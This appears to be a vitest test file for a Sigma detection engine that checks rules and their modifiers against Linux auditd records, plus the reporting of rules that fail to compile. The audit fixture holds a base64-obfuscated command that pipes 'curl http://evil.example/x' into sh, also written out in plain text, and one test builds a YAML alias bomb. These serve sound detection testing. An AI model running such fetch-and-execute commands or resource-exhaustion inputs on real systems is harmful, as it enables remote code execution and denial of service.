import { describe, expect, it } from "vitest";
import { parseText } from "../src/parser";
import { SigmaEngine } from "../src/sigma/engine";
import { compileRuleText, type RuleSet } from "../src/sigma/rules";

// The Sigma features the engine implements (sigma-specification: sigma-rules-specification.md and
// sigma-appendix-modifiers.md), each on real audit records: a rule that must match, and one that must not.

const hex = (s: string) => Buffer.from(s).toString("hex").toUpperCase();
const LOG = [
  'type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=1 ppid=1 pid=42 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=3 comm="bash" exe="/usr/bin/bash" key=' +
    hex("exec\u0001webshell"),
  `type=EXECVE msg=audit(1700000000.000:10): argc=3 a0="bash" a1="-c" a2=${hex("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh")}`,
  `type=CWD msg=audit(1700000000.000:10): cwd=${hex("/var/www/my site")}`,
  'type=PATH msg=audit(1700000000.000:10): item=0 name="/usr/bin/bash" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0',
  "type=EOE msg=audit(1700000000.000:10):",
  'type=SYSCALL msg=audit(1700000001.000:11): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=43 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="net"',
  "type=SOCKADDR msg=audit(1700000001.000:11): saddr=020001BBC0A801050000000000000000",
  "type=EOE msg=audit(1700000001.000:11):",
].join("\n");
const EVENTS = parseText(LOG).events;

function compile(detection: string, extra = ""): RuleSet {
  const set: RuleSet = { rules: [], failed: [], skipped: [] };
  const yaml = `title: t\nid: r1\nlevel: high\n${extra || "logsource:\n  product: linux\n  service: auditd\n"}detection:\n${detection
    .trim()
    .split("\n")
    .map((l) => `  ${l}`)
    .join("\n")}\n`;
  compileRuleText(yaml, "test.yml", set);
  return set;
}

/** The serials of the events the rule matches. */
function run(detection: string): number[] {
  const set = compile(detection);
  expect(set.failed).toEqual([]);
  const engine = new SigmaEngine(set.rules);
  return EVENTS.filter((e) => engine.match(e).length > 0).map((e) => e.serial!);
}

function failure(detection: string, extra = ""): string {
  const set = compile(detection, extra);
  expect(set.rules).toEqual([]);
  return set.failed.map((f) => `${f.rule}: ${f.reason}`).join("\n");
}

describe("Sigma detection on audit records", () => {
  it.each([
    ["map: fields AND-ed, case-insensitive", "sel:\n  type: execve\n  a0: BASH\ncondition: sel", [10]],
    ["map: one field wrong", "sel:\n  type: EXECVE\n  a0: sh\ncondition: sel", []],
    ["list of values OR-ed", "sel:\n  a1:\n    - '-x'\n    - '-c'\ncondition: sel", [10]],
    ["list of maps OR-ed", "sel:\n  - comm: nope\n  - comm: curl\ncondition: sel", [11]],
    ["wildcards * and ?", "sel:\n  exe: /usr/bin/cu?l\ncondition: sel", [11]],
    ["escaped wildcard is literal", "sel:\n  exe: /usr/bin/cu\\?l\ncondition: sel", []],
    ["hex-encoded value decoded (cwd with a space)", "sel:\n  cwd|endswith: '/my site'\ncondition: sel", [10]],
    ["numbers as logged (euid 33, not www-data)", "sel:\n  type: SYSCALL\n  euid: 33\ncondition: sel", [10]],
    ["ENRICHED name from interpretation (SYSCALL)", "sel:\n  SYSCALL: connect\ncondition: sel", [11]],
    ["key list split at 0x01: any key matches", "sel:\n  key: webshell\ncondition: sel", [10]],
    ["field from the event's other records (exe next to type EXECVE)", "sel:\n  type: EXECVE\n  exe: /usr/bin/bash\ncondition: sel", [10]],
    ["contains / startswith / endswith", "sel:\n  a2|contains: base64 -d\n  a0|startswith: ba\n  a0|endswith: sh\ncondition: sel", [10]],
    ["contains|all needs every value", "sel:\n  a2|contains|all:\n    - echo\n    - nope\ncondition: sel", []],
    ["re (case-sensitive by default)", "sel:\n  a2|re: '^echo [A-Za-z0-9+/=]{20,}'\ncondition: sel", [10]],
    ["re without i does not fold case", "sel:\n  a2|re: '^ECHO'\ncondition: sel", []],
    ["re|i folds case", "sel:\n  a2|re|i: '^ECHO'\ncondition: sel", [10]],
    ["cased", "sel:\n  a0|cased: BASH\ncondition: sel", []],
    ["cidr on the decoded socket address", "sel:\n  laddr|cidr: 192.168.0.0/16\n  lport: 443\ncondition: sel", [11]],
    ["cidr outside", "sel:\n  laddr|cidr: 10.0.0.0/8\ncondition: sel", []],
    ["base64offset|contains finds a word inside base64", "sel:\n  a2|base64offset|contains: 'http://evil'\ncondition: sel", [10]],
    ["base64: the whole encoded value", "sel:\n  a2|base64|contains: 'curl http://evil.example/x | sh'\ncondition: sel", [10]],
    [
      "base64 of a part ends in padding, so it is not found inside (use base64offset)",
      "sel:\n  a2|base64|contains: 'curl'\ncondition: sel",
      [],
    ],
    ["windash: -c matches a /c spelling too", "sel:\n  a1|windash: '/c'\ncondition: sel", [10]],
    ["keywords: a value anywhere in the record", "keywords:\n  - base64 -d\ncondition: keywords", [10]],
    ["keywords |all", "keywords:\n  '|all':\n    - echo\n    - curl\ncondition: keywords", []],
    ["and / or / not with parentheses", "a:\n  comm: bash\nb:\n  comm: curl\nc:\n  type: SYSCALL\ncondition: c and not (a or b)", []],
    ["1 of pattern", "sel_a:\n  comm: nope\nsel_b:\n  comm: curl\ncondition: 1 of sel_*", [11]],
    ["all of them (ignores _-prefixed)", "s1:\n  type: SYSCALL\ns2:\n  comm: curl\n_x:\n  comm: nope\ncondition: all of them", [11]],
    ["condition list is OR-ed", "a:\n  comm: bash\nb:\n  comm: curl\ncondition:\n  - a\n  - b", [10, 11]],
    ["null: field absent", "sel:\n  type: SOCKADDR\n  nope: null\ncondition: sel", [11]],
    ["exists", "sel:\n  type: SOCKADDR\n  laddr|exists: true\ncondition: sel", [11]],
    ["gt / lt on numbers", "sel:\n  type: SYSCALL\n  pid|gt: 42\n  pid|lt: 100\ncondition: sel", [11]],
    ["neq", "sel:\n  type: SYSCALL\n  comm|neq: bash\ncondition: sel", [11]],
    ["fieldref: two fields equal", "sel:\n  type: SYSCALL\n  uid|fieldref: euid\n  comm: curl\ncondition: sel", [11]],
  ])("%s", (_name, detection, expected) => {
    expect(run(detection)).toEqual(expected);
  });
});

describe("rules that cannot be compiled are reported by id with the reason", () => {
  it.each([
    ["an unknown modifier", "sel:\n  a0|sortof: x\ncondition: sel", 'r1: search identifier "sel", "a0|sortof": unknown modifier "sortof"'],
    [
      "an undefined identifier",
      "sel:\n  a0: x\ncondition: sel and other",
      'r1: condition names "other", which the detection does not define',
    ],
    ["a bad regular expression", "sel:\n  a0|re: '(unclosed'\ncondition: sel", "invalid regular expression"],
    ["placeholders", "sel:\n  a0|expand: '%admins%'\ncondition: sel", "placeholders"],
    ["an aggregation", "sel:\n  a0: x\ncondition: sel | count() > 5", "aggregations"],
    ["no condition", "sel:\n  a0: x", "r1: detection has no condition"],
    ["an unbalanced parenthesis", "sel:\n  a0: x\ncondition: (sel", 'unclosed "("'],
    ["a pattern matching nothing", "sel:\n  a0: x\ncondition: 1 of filter_*", "matches no search identifier"],
    ["a bad CIDR", "sel:\n  laddr|cidr: 10.0.0.0/33\ncondition: sel", "not a CIDR range"],
    ["utf16 without base64", "sel:\n  a0|wide: x\ncondition: sel", "must be base64-encoded"],
  ])("%s", (_name, detection, reason) => {
    expect(failure(detection)).toContain(reason);
  });

  it("a bad level, a correlation rule, broken YAML and an alias bomb", () => {
    const set: RuleSet = { rules: [], failed: [], skipped: [] };
    compileRuleText("title: t\nid: a\nlevel: severe\nlogsource: {product: linux}\ndetection: {s: {a0: x}, condition: s}\n", "a.yml", set);
    compileRuleText("title: t\nid: b\ncorrelation: {type: event_count}\n", "b.yml", set);
    compileRuleText("title: [unclosed\n", "c.yml", set);
    const bomb = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 12; i++)
      bomb.push(
        `a${i}: &a${i} [${Array(9)
          .fill(`*a${i - 1}`)
          .join(", ")}]`,
      );
    compileRuleText(`${bomb.join("\n")}\ntitle: bomb\n`, "d.yml", set);
    expect(set.failed.map((f) => f.rule)).toEqual(["a", "b", "c.yml", "d.yml"]);
    expect(set.failed[3]!.reason).toContain("alias");
    expect(set.failed[0]!.reason).toContain('level "severe"');
    expect(set.failed[2]!.reason).toContain("YAML");
  });

  it("a rule for another log source is skipped with the reason, not run", () => {
    const set = compile("sel:\n  a0: bash\ncondition: sel", "logsource:\n  product: windows\n  category: process_creation\n");
    expect(set.rules).toEqual([]);
    expect(set.failed).toEqual([]);
    expect(set.skipped[0]!.reason).toContain('product "windows"');
  });
});
